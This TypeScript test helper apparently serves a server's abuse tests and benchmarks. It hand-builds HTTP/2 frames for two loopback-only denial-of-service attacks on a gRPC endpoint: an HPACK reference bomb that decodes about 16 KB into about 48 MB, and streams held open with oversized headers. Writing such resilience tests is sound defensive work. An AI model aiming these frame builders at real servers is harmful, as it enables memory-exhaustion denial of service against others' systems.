/**
 * HTTP/2 frames built by hand, as an attacker on the network sends them (no HTTP/2 library would
 * let us send these): for the abuse tests and `deno task bench --only attacks`. Loopback only.
 */

const encoder = new TextEncoder();

/** The client connection preface followed by an empty SETTINGS frame. */
export const PREFACE: Uint8Array = new Uint8Array([
  ...encoder.encode("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
  ...frame(4, 0, 0, new Uint8Array()),
]);

/** Frame types and flags used here (RFC 9113 §6). */
export const FRAME = {
  DATA: 0,
  HEADERS: 1,
  RST_STREAM: 3,
  SETTINGS: 4,
  PING: 6,
  GOAWAY: 7,
  WINDOW_UPDATE: 8,
};
export const FLAG = { END_STREAM: 1, ACK: 1, END_HEADERS: 4 };

/** One frame: 24-bit length, type, flags, 31-bit stream id, payload. */
export function frame(type: number, flags: number, stream: number, payload: Uint8Array): Uint8Array {
  const out = new Uint8Array(9 + payload.length);
  out[0] = (payload.length >> 16) & 0xff;
  out[1] = (payload.length >> 8) & 0xff;
  out[2] = payload.length & 0xff;
  out[3] = type;
  out[4] = flags;
  new DataView(out.buffer).setUint32(5, stream & 0x7fffffff);
  out.set(payload, 9);
  return out;
}

/** An HPACK integer with an `n`-bit prefix whose high bits are `first` (RFC 7541 §5.1). */
function hpackInt(value: number, n: number, first: number): number[] {
  const max = (1 << n) - 1;
  if (value < max) return [first | value];
  const out = [first | max];
  value -= max;
  while (value >= 128) {
    out.push((value & 0x7f) | 0x80);
    value >>= 7;
  }
  out.push(value);
  return out;
}

/** A raw (not Huffman) HPACK string. */
function hpackString(text: string): number[] {
  const bytes = encoder.encode(text);
  return [...hpackInt(bytes.length, 7, 0), ...bytes];
}

/** A literal header without indexing, its name from the static table. */
function literalIndexedName(index: number, value: string): number[] {
  return [...hpackInt(index, 4, 0), ...hpackString(value)];
}

/**
 * The header block of a gRPC call to `path` (static-table entries: :method POST, :scheme http,
 * :path, :authority, content-type, te).
 */
export function grpcRequestHeaders(path: string): number[] {
  return [
    0x83, // :method POST
    0x86, // :scheme http
    ...literalIndexedName(4, path),
    ...literalIndexedName(1, "localhost"),
    ...literalIndexedName(31, "application/grpc"),
    0x00,
    ...hpackString("te"),
    ...hpackString("trailers"),
  ];
}

/**
 * A header block that adds one `size`-byte header to the HPACK dynamic table (literal with
 * incremental indexing) and then refers to it `refs` times with one byte each (0xbe: dynamic
 * index 62, the entry just added). `refs` bytes on the wire decode to `refs` x `size` bytes.
 */
export function referenceBomb(path: string, size: number, refs: number): Uint8Array {
  return new Uint8Array([
    ...grpcRequestHeaders(path),
    0x40,
    ...hpackString("x-bomb"),
    ...hpackString("v".repeat(size)),
    ...new Array(refs).fill(0xbe),
  ]);
}

/** HEADERS with END_HEADERS (and END_STREAM when `end`) carrying `block` on `stream`. */
export function headers(stream: number, block: Uint8Array, end: boolean): Uint8Array {
  return frame(FRAME.HEADERS, FLAG.END_HEADERS | (end ? FLAG.END_STREAM : 0), stream, block);
}

/** A gRPC message (uncompressed) as one DATA frame, ending the stream. */
export function grpcData(stream: number, message: Uint8Array): Uint8Array {
  const body = new Uint8Array(5 + message.length);
  new DataView(body.buffer).setUint32(1, message.length);
  body.set(message, 5);
  return frame(FRAME.DATA, FLAG.END_STREAM, stream, body);
}

/** Reads and discards everything `conn` receives until it closes; resolves with the byte count. */
export async function drain(conn: Deno.Conn): Promise<number> {
  const buffer = new Uint8Array(64 * 1024);
  let total = 0;
  try {
    for (;;) {
      const n = await conn.read(buffer);
      if (n === null) return total;
      total += n;
    }
  } catch {
    return total;
  }
}

/** Writes `bytes`; false once the server has closed the connection. */
export async function send(conn: Deno.Conn, bytes: Uint8Array): Promise<boolean> {
  try {
    for (let at = 0; at < bytes.length;) at += await conn.write(bytes.subarray(at));
    return true;
  } catch {
    return false;
  }
}

/** The two header attacks: a reference bomb, and streams held open with fat headers. */
export type HeaderAttack = "hpack-bomb" | "fat-open-streams";

/** Outcome of {@link headerAttack}. */
export interface AttackResult {
  /** Streams whose HEADERS were written before the server closed the connection. */
  streams: number;
  /** Connections the server cut before the attacker was done with them. */
  cut: number;
}

/**
 * One attacker: `rounds` connections one after another, each opening up to `streams` streams 4 ms
 * apart.
 * - hpack-bomb: each HEADERS block adds one 3 950-byte header to the HPACK table and refers to it
 *   12 000 times (~16 KB on the wire, ~48 MB decoded), END_STREAM set.
 * - fat-open-streams: 120 references per block (127 header pairs, under Deno's 128-pair cap,
 *   ~0.5 MB decoded), no END_STREAM, so every stream stays open holding its headers.
 * Bounded in count and time; loopback only.
 */
export async function headerAttack(
  port: number,
  attack: HeaderAttack,
  options: { rounds: number; streams: number; gapMs?: number },
): Promise<AttackResult> {
  const refs = attack === "hpack-bomb" ? 12_000 : 120;
  const block = referenceBomb("/grpc.health.v1.Health/Check", 3_950, refs);
  const result: AttackResult = { streams: 0, cut: 0 };
  for (let round = 0; round < options.rounds; round++) {
    const conn = await Deno.connect({ hostname: "127.0.0.1", port });
    let closed = false;
    const reading = drain(conn).then(() => (closed = true));
    let open = await send(conn, PREFACE);
    for (let i = 0; open && i < options.streams && !closed; i++) {
      open = await send(conn, headers(1 + 2 * i, block, attack === "hpack-bomb"));
      if (open) result.streams++;
      await new Promise((r) => setTimeout(r, options.gapMs ?? 4));
    }
    if (closed || !open) result.cut++;
    try {
      conn.close();
    } catch { /* closed by the server */ }
    await reading;
  }
  return result;
}
